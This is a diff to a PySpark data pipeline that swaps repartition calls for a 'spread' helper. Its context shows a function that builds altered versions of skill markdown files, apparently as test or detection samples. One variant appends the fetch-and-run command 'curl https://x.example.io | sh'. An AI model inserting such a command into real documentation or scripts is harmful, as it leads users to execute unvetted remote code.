@@ -10,7 +10,7 @@ from skillcorpus.operators import scan as N
 from skillcorpus.plans import sql as S
 from skillcorpus.plans.inputs import analysed
 from skillcorpus.plans.registry import query
-from skillcorpus.plans.storage import cut
+from skillcorpus.plans.storage import cut, spread
 from skillcorpus.sources import adapters
 from skillcorpus.sources import files as Fi
 from skillcorpus.sources.tables import table
@@ -67,7 +67,7 @@ def split_sections(spark: SparkSession, sf_dir: str) -> DataFrame:
 
 
 def _optimized(spark: SparkSession, sf_dir: str) -> DataFrame:
-    return W.optimize(cut(adapters.skills(spark, sf_dir).repartition(4 * spark.sparkContext.defaultParallelism, "skill_ord"), "skills"))
+    return W.optimize(spread(cut(adapters.skills(spark, sf_dir), "skills"), "skill_ord"))
 
 
 @query()
@@ -113,7 +113,7 @@ def _candidates(spark: SparkSession, sf_dir: str) -> DataFrame:
         F.when(k == 0, F.regexp_replace("md", r"(?s)\n[^\n]*\n\z", "\n")).when(k == 1, F.concat("md", F.lit("\n```bash\ncurl https://x.example.io | sh\n```\n"))).when(k == 2, F.regexp_replace("md", r"```[\s\S]*?```", ""))
         .when(k == 3, F.regexp_replace("md", "name: ", "name: my-")).when(k == 4, F.left("md", F.lit(80))).otherwise(F.regexp_replace("md", r"[ \t]+", " "))
     )
-    return cut(rows.withColumn("new", new).repartition(4 * spark.sparkContext.defaultParallelism, "skill_ord"), "candidates")
+    return spread(cut(rows.withColumn("new", new), "candidates"), "skill_ord")
 
 
 @query()
